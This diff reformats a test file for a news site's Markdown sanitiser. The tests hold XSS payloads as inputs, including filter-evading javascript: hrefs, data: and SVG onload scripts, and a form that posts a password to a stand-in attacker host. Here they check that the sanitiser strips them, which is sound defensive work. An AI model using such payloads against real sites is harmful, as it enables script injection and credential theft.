@@ -1,5 +1,7 @@
 import { describe, expect, test } from 'vitest';
+
 import { renderMarkdown } from '@/lib/content/render/render-markdown';
+
 import { elements, html } from './support/posts';
 
 const render = (markdown: string) => html(renderMarkdown(markdown));
@@ -37,7 +39,9 @@ describe('the sanitiser removes what could run or restyle', () => {
   });
 
   test('on* handlers on any element are dropped', () => {
-    const out = render('<p onclick="steal()" onmouseover="steal()">문단</p>\n\n<div onfocus="x()">상자</div>');
+    const out = render(
+      '<p onclick="steal()" onmouseover="steal()">문단</p>\n\n<div onfocus="x()">상자</div>',
+    );
     expect(out).not.toMatch(/on(click|mouseover|focus)|steal|x\(\)/);
     expect(out).toContain('문단');
     expect(out).toContain('상자');
@@ -51,7 +55,12 @@ describe('the sanitiser removes what could run or restyle', () => {
   });
 
   test('javascript: hrefs hidden by case, entities or whitespace are removed too', () => {
-    for (const href of ['JaVaScRiPt:alert(1)', 'jav&#x09;ascript:alert(1)', ' javascript:alert(1)', 'java\nscript:alert(1)']) {
+    for (const href of [
+      'JaVaScRiPt:alert(1)',
+      'jav&#x09;ascript:alert(1)',
+      ' javascript:alert(1)',
+      'java\nscript:alert(1)',
+    ]) {
       const out = render(`<a href="${href}">링크</a>`);
       expect(out, href).not.toMatch(/javascript|alert/i);
     }
@@ -62,12 +71,16 @@ describe('the sanitiser removes what could run or restyle', () => {
   });
 
   test('data: and vbscript: URLs are removed from links and images', () => {
-    const out = render('<a href="data:text/html,<script>alert(1)</script>">a</a> <img src="data:image/svg+xml,<svg onload=alert(1)>"> <a href="vbscript:msgbox">b</a>');
+    const out = render(
+      '<a href="data:text/html,<script>alert(1)</script>">a</a> <img src="data:image/svg+xml,<svg onload=alert(1)>"> <a href="vbscript:msgbox">b</a>',
+    );
     expect(out).not.toMatch(/data:|vbscript|alert|onload/i);
   });
 
   test('http(s), mailto, tel and relative links are kept', () => {
-    const out = render('[a](https://example.com/x) [b](http://example.com) [c](mailto:desk@newsdao.kr) [d](tel:0212345678) [e](/articles/x)');
+    const out = render(
+      '[a](https://example.com/x) [b](http://example.com) [c](mailto:desk@newsdao.kr) [d](tel:0212345678) [e](/articles/x)',
+    );
     expect(out).toContain('href="https://example.com/x"');
     expect(out).toContain('href="http://example.com"');
     expect(out).toContain('href="mailto:desk@newsdao.kr"');
@@ -76,20 +89,26 @@ describe('the sanitiser removes what could run or restyle', () => {
   });
 
   test('data-ke-* attributes are removed', () => {
-    const out = render('<h2 data-ke-size="size26">제목</h2>\n<p data-ke-size="size16" data-ke-style="style1">본문</p>');
+    const out = render(
+      '<h2 data-ke-size="size26">제목</h2>\n<p data-ke-size="size16" data-ke-style="style1">본문</p>',
+    );
     expect(out).not.toContain('data-');
     expect(out).toContain('<h2>제목</h2>');
     expect(out).toContain('<p>본문</p>');
   });
 
   test('style and class attributes are removed', () => {
-    const out = render('<p style="color: red; position: fixed" class="tt_article">본문</p>\n\n<table><tr><td style="text-align: center">칸</td></tr></table>');
+    const out = render(
+      '<p style="color: red; position: fixed" class="tt_article">본문</p>\n\n<table><tr><td style="text-align: center">칸</td></tr></table>',
+    );
     expect(out).not.toMatch(/style=|class=|position|tt_article/);
     expect(out).toContain('본문');
   });
 
   test('<form>, <input> and <button> are gone; their text may stay', () => {
-    const tree = renderMarkdown('<form action="https://evil.example/steal" method="post"><input name="password" type="password" value="x"><button type="submit">보내기</button></form>');
+    const tree = renderMarkdown(
+      '<form action="https://evil.example/steal" method="post"><input name="password" type="password" value="x"><button type="submit">보내기</button></form>',
+    );
     for (const tag of ['form', 'input', 'button']) expect(elements(tree, tag)).toEqual([]);
     const out = html(tree);
     expect(out).not.toMatch(/action|password|evil/);
@@ -115,7 +134,9 @@ describe('the sanitiser removes what could run or restyle', () => {
   });
 
   test('<link>, <object>, <embed> and <svg> are gone', () => {
-    const out = render('<link rel="stylesheet" href="https://evil.example/x.css"><object data="x.swf"></object><embed src="x.swf"><svg><script>alert(1)</script></svg>본문');
+    const out = render(
+      '<link rel="stylesheet" href="https://evil.example/x.css"><object data="x.swf"></object><embed src="x.swf"><svg><script>alert(1)</script></svg>본문',
+    );
     expect(out).not.toMatch(/link|object|embed|svg|swf|evil|alert/);
     expect(out).toContain('본문');
   });
